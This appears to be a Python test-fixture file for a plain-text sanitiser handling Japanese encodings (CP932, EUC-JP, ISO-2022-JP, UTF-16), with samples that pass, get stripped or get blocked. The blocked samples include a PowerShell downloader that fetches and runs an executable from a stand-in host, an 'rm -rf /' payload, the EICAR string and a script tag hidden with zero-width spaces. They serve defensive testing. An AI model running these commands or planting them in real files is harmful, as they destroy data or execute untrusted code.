"""Plain text in the encodings of Japanese offices, and what must not stay in it."""
from sample import Sample

NOTICE = "入札公告\r\n件名: 庁舎改修工事\r\n「東京都」ｶﾅ 資料は別紙のとおりです。\r\n"
GAIJI = "①②Ⅲ㈱№㍻ 髙橋 﨑山 彅 纊 \ue000\r\n"
ESC = "\x1b"
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-"
         + "ANTIVIRUS-TEST-FILE!$H+H*")


def passes(name, data, note, **more):
    return Sample(name, data, verdict="unchanged", note=note, **more)


def loses(name, data, kinds, note, **more):
    return Sample(name, data, removals=["text." + kind for kind in kinds], note=note, **more)


def blocked(name, data, reason, note, **more):
    return Sample(name, data, verdict="blocked", reason=reason, note=note, **more)


def jis_kana():
    """Half-width katakana and JIS X 0208 with the sequences of mail."""
    return (b"\x1b(I1234\x1b(B abc \x1b$@F|K\\\x1b(J \x1b$B8l\x1b(B\r\n")


def encodings():
    yield passes("plain.txt", "入札公告\n本文です。\n".encode(), "UTF-8 text passes as it is")
    yield passes("utf8-bom.txt", NOTICE.encode("utf-8-sig"), "the byte order mark stays")
    yield passes("utf16le.txt", NOTICE.encode("utf-16"), "UTF-16 with its mark")
    yield passes("utf16be.txt", b"\xfe\xff" + NOTICE.encode("utf-16-be"), "and the other way")
    yield passes("utf16-no-mark.txt", NOTICE.encode("utf-16-le"), "UTF-16 without a mark")
    yield passes("cp932.txt", NOTICE.encode("cp932"), "Shift_JIS as Windows has it")
    yield passes("cp932-gaiji.txt", GAIJI.encode("cp932"),
                 "NEC and IBM extensions and private use keep their codes")
    yield passes("cp932-nec-selected.txt", "高".encode("cp932") + b"\xed\x40\xfa\x5c\x87\x90\x81\xe0\x82\xa0\r\n",
                 "double codes of one character come out as they went in")
    yield passes("cp932-kana.txt", "ｶﾌﾞｼｷｶﾞｲｼｬ ｶﾅﾀﾞ\r\n".encode("cp932"),
                 "half-width katakana alone")
    yield passes("euc-jp.txt", NOTICE.encode("euc_jp"), "EUC-JP")
    yield passes("euc-jp-gaiji.txt", "東京都の".encode("euc_jp") + b"\xad\xa1\xad\xea\r\n",
                 "EUC-JP with NEC row 13")
    yield passes("iso-2022-jp.txt", NOTICE.replace("ｶﾅ", "カナ").encode("iso2022_jp"),
                 "the encoding of mail: its escape sequences are no terminal's")
    yield passes("iso-2022-jp-kana.txt", jis_kana(), "with half-width katakana")
    yield passes("windows-1252.txt", "Müller, Größe: 5 € – “Café”\r\n".encode("cp1252"),
                 "a Western text")
    yield passes("windows-1252-marks.txt", "He called it a “window” – and left…\r\n".encode("cp1252"),
                 "an English text with typographic marks only")
    yield passes("ascii.log", b"2026-01-01 00:00:00 started\n\tok\x0c\n", "TAB and form feed stay")
    yield passes("lines.txt", b"".join(b"line %d\r\n" % i for i in range(65536)),
                 "65,536 lines")
    yield passes("one-line.txt", "あ".encode() * 300000, "a line of 900,000 bytes")
    yield passes("emoji.txt", "家族 👨\u200d👩\u200d👧 ❤\ufe0f 1\ufe0f\u20e3\n".encode(),
                 "joiners and selectors within emoji stay")
    yield passes("ivs.txt", "葛\U000e0100城市 辻\U000e0101 神\ufe00\n".encode(),
                 "forms of kanji in names stay (IVS)")
    yield passes("hindi.txt", "क्\u200dष श्\u200cर نمی\u200cخواهم\n".encode(),
                 "joiners of other scripts stay")
    yield passes("README", "拡張子のない文書\n".encode(), "a name that claims nothing")
    yield passes("data.json", '{"件名": "庁舎改修"}\n'.encode(), "a text by another name")


def hidden():
    yield loses("control.txt", b"a\x00b\x07c\x08d" + b"text " * 40 + b"\n", ["control"], "NUL, BEL, BS")
    yield loses("dos-end.txt", NOTICE.encode("cp932") + b"\x1a", ["control"],
                "the end mark of old DOS files")
    yield loses("c1.txt", "a\u0085b\u009fc 日本語の文章です\n".encode(), ["control"], "C1 controls")
    yield loses("ansi.txt", (f"{ESC}[31m赤{ESC}[0m {ESC}]0;title\x07 {ESC}]8;;http://e.example{ESC}\\x "
                             f"{ESC}(0q{ESC}c{ESC}Pq{ESC}\\ {ESC}[?25l\n").encode(), ["escape"],
                "colours, window titles, links, character sets of a terminal")
    yield loses("ansi-open.txt", f"件名{ESC}]0;title\n次の行{ESC}[31\n{ESC}".encode(), ["escape"],
                "sequences that never end")
    yield loses("bidi.txt", "支払先 \u202egpj.exe\u202c \u2066x\u2069 \u200fend\n".encode(), ["bidi"],
                "overrides, isolates, marks")
    yield loses("invisible.txt", "pay\u200bload\u2060 a\u00adb \ufeffc \U000e0041\U000e0042\u3164\n".encode(),
                ["invisible"], "zero-width characters, tags, fillers")
    yield loses("selectors.txt", "x\ufe0fa\U000e0100\U000e0101 ❤\ufe0f\ufe0f\ufe0e\n".encode(),
                ["invisible"], "data hidden in variation selectors")
    yield loses("joiners.txt", "a\u200db 日\u200d本\u200c\n".encode(), ["invisible"],
                "joiners that join nothing")
    yield loses("separators.txt", "一行目\u2028二行目\u2029\n".encode(), ["invisible"],
                "line separators become blanks")
    yield loses("truncated.txt", "入札公告".encode()[:-1], ["broken"],
                "UTF-8 that ends within a character")
    yield loses("truncated-cp932.txt", "入札公告の件名".encode("cp932")[:-1], ["broken"],
                "CP932 that ends within a character")
    yield loses("utf16-odd.txt", "\ufeff入札公告".encode("utf-16-le") + b"a", ["broken"],
                "UTF-16 with half a character at the end")
    yield loses("many.txt", "あ\u200b\u0007い".encode() * 30 + "日本語".encode() * 400,
                ["control", "invisible"], "each sort is reported once")


def held():
    yield Sample("議事録.txt", "$client = New-Object Net.WebClient\r\n"
                 "$url = 'http://e.example/a.bin'\r\n"
                 "$client.DownloadFile($url, \"$env:TEMP\\a.exe\")\r\n"
                 "Start-Process \"$env:TEMP\\a.exe\"\r\n".encode(),
                 verdict="blocked", reason="type.executable", demo=True,
                 note="a PowerShell script under the name of a text")
    yield Sample("eicar.com.txt", EICAR.encode(), verdict="blocked",
                 reason="scanner.infected", demo=True, note="the test file of malware scanners")
    yield blocked("empty.txt", b"", "type.empty", "no content")
    yield blocked("invisible-only.txt", "\u200b\u200b\u202e".encode(), "type.empty",
                  "nothing is left")
    yield blocked("controls.txt", bytes(range(1, 9)) * 20, "type.unknown", "no text at all")
    yield blocked("random.txt", bytes((i * 7919 + i * i * 31) % 251 for i in range(4000)),
                  "type.unknown", "binary data under the name of a text")
    yield blocked("utf32.txt", NOTICE.encode("utf-32"), "type.unknown", "an encoding that is not on the list")
    yield blocked("broken-utf8.txt", NOTICE.encode().replace("公".encode(), b"\xe5\x85"),
                  "type.unknown", "bytes are missing in the middle")
    yield blocked("lone-surrogate.txt", b"\xff\xfea\0\x00\xd8b\0", "type.unknown",
                  "half of a pair in UTF-16")
    yield blocked("overlong.txt", b"a\xc0\xaf..\xe0\x80\xaf " + "日本".encode(), "type.unknown",
                  "overlong forms are no UTF-8")
    yield blocked("hidden-shebang.txt", b"#\x00!/bin/sh\nrm -rf /\n" + b"echo hello\n" * 20, "type.executable",
                  "a first line broken up by a NUL")
    yield Sample("hidden-tag.txt", "<scr\u200bipt>alert(1)</scr\u200bipt>\n".encode(), output="hidden-tag.html",
                 removals=["type.renamed"],
                 note="a tag broken up by invisible characters is none: what stands in it is text")


def samples():
    yield from encodings()
    yield from hidden()
    yield from held()
